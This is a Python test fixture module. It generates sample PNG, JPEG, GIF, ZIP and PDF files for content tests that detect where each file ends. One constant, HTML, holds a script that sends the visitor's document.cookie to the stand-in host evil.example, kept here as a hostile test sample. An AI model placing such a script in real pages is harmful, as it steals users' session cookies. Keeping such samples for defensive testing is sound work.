"""Well-formed sample files of each type whose end the files lane finds (PNG, JPEG, GIF, ZIP,
PDF), and the hostile ones of issue 11 item 4, for the content tests (unit and end to end)."""
from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib

# 16x16 and 8x8 test pictures made by ffmpeg (testsrc), kept as they came out.
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAgAAAQABAAD//gAQTGF2YzU5LjM3LjEwMAD/2wBDAAgKCgsKCw0NDQ0NDRAPEBAQEBAQEBAQEBASEhIV"
    "FRUSEhIQEBISFBQVFRcXFxUVFRUXFxkZGR4eHBwjIyQrKzP/xABxAAEBAAAAAAAAAAAAAAAAAAAFBgEBAAMBAAAAAAAAAAAA"
    "AAAABgIDAQQQAAMAAgIBBAIDAQAAAAAAAAMCAQQRBRIABiExE0FCFCMyIhEAAQQCAQQCAwEAAAAAAAAAAQQDAhEFEiExFAAT"
    "FQZBIzJC/8AAEQgAEAAQAwESAAISAAMSAP/aAAwDAQACEQMRAD8AmbjH4XgcQgjOIxxJkUgSOtilqEGsaRLLBl08n7WzdmvK"
    "HJHh8nwmCv8AOxxQQMfHZuyPJ9SDTs39i9e1Hfa/G9buvFOCxGOVu+xSmZUmQIp+EXYAc9ITBh/gGyNhzRrw5hPsqthcEjeJ"
    "ffIs7RnO9eblqE8uBsLN1081OqmtbykHYtn4ptJBHIRqTfeOFx+d3/c6jC+KhGhW0r58k07gPkyw3PIwyQTSjNuJjGEUchGU"
    "gYh0OAynGJIMREyA5vxXl+TT0vyAj44RDApE+4IhJIw79av0WUcjxXdk/wCpO+u254J6kx83nMs+MmJkD660yjIXt/i+yxF/"
    "Cb+b7XwZgspkFcdVKtQoEuvuck6eN6ouGRHQdCLoX4kxX11CkSFQxmEywwFltuLdi9qBMVE6uzXH48vSJWlbuZde3cljey7I"
    "Fxz1p+6BD+jYmG/2UNrieeevk/rihOpnlGlTzSB3IBIfS9OIca7YE1rMtynsDfSNDnnz/9k="
)
GIF = base64.b64decode(
    "R0lGODlhCAAIAPcfMQAAACQAAEgAAGwAAJAAALQAANgAAPwAAAAkACQkAEgkAGwkAJAkALQkANgkAPwkAABIACRIAEhIAGxI"
    "AJBIALRIANhIAPxIAABsACRsAEhsAGxsAJBsALRsANhsAPxsAACQACSQAEiQAGyQAJCQALSQANiQAPyQAAC0ACS0AEi0AGy0"
    "AJC0ALS0ANi0APy0AADYACTYAEjYAGzYAJDYALTYANjYAPzYAAD8ACT8AEj8AGz8AJD8ALT8ANj8APz8AAAAVSQAVUgAVWwA"
    "VZAAVbQAVdgAVfwAVQAkVSQkVUgkVWwkVZAkVbQkVdgkVfwkVQBIVSRIVUhIVWxIVZBIVbRIVdhIVfxIVQBsVSRsVUhsVWxs"
    "VZBsVbRsVdhsVfxsVQCQVSSQVUiQVWyQVZCQVbSQVdiQVfyQVQC0VSS0VUi0VWy0VZC0VbS0Vdi0Vfy0VQDYVSTYVUjYVWzY"
    "VZDYVbTYVdjYVfzYVQD8VST8VUj8VWz8VZD8VbT8Vdj8Vfz8VQAAqiQAqkgAqmwAqpAAqrQAqtgAqvwAqgAkqiQkqkgkqmwk"
    "qpAkqrQkqtgkqvwkqgBIqiRIqkhIqmxIqpBIqrRIqthIqvxIqgBsqiRsqkhsqmxsqpBsqrRsqthsqvxsqgCQqiSQqkiQqmyQ"
    "qpCQqrSQqtiQqvyQqgC0qiS0qki0qmy0qpC0qrS0qti0qvy0qgDYqiTYqkjYqmzYqpDYqrTYqtjYqvzYqgD8qiT8qkj8qmz8"
    "qpD8qrT8qtj8qvz8qgAA/yQA/0gA/2wA/5AA/7QA/9gA//wA/wAk/yQk/0gk/2wk/5Ak/7Qk/9gk//wk/wBI/yRI/0hI/2xI"
    "/5BI/7RI/9hI//xI/wBs/yRs/0hs/2xs/5Bs/7Rs/9hs//xs/wCQ/ySQ/0iQ/2yQ/5CQ/7SQ/9iQ//yQ/wC0/yS0/0i0/2y0"
    "/5C0/7S0/9i0//y0/wDY/yTY/0jY/2zY/5DY/7TY/9jY//zY/wD8/yT8/0j8/2z8/5D8/7T8/9j8//z8/yH/C05FVFNDQVBF"
    "Mi4wAwEAAAAh+QQEAAAfACwAAAAACAAIAAAINQABHMDxA9gxfP8EHgP2A8eBhPgWNjwAAEBEhg4rXpyoUWLGAzd44MEHjdih"
    "Ay924CA57FhAADs="
)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HTML = b"<html><body><script>document.location='http://evil.example/'+document.cookie</script></body></html>\n"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 8, height: int = 8) -> bytes:
    rows = b"".join(b"\0" + b"".join(bytes((x * 30 % 256, y * 30 % 256, 128)) for x in range(width))
                    for y in range(height))
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + png_chunk(b"IDAT", zlib.compress(rows)) + png_chunk(b"IEND", b""))


def zip_archive(members: dict[str, bytes] | None = None, comment: bytes = b"") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in (members if members is not None else {"a.txt": b"hello\n" * 20}).items():
            z.writestr(name, data)
        z.comment = comment
    return buf.getvalue()


PNG = png()
ZIP = zip_archive()
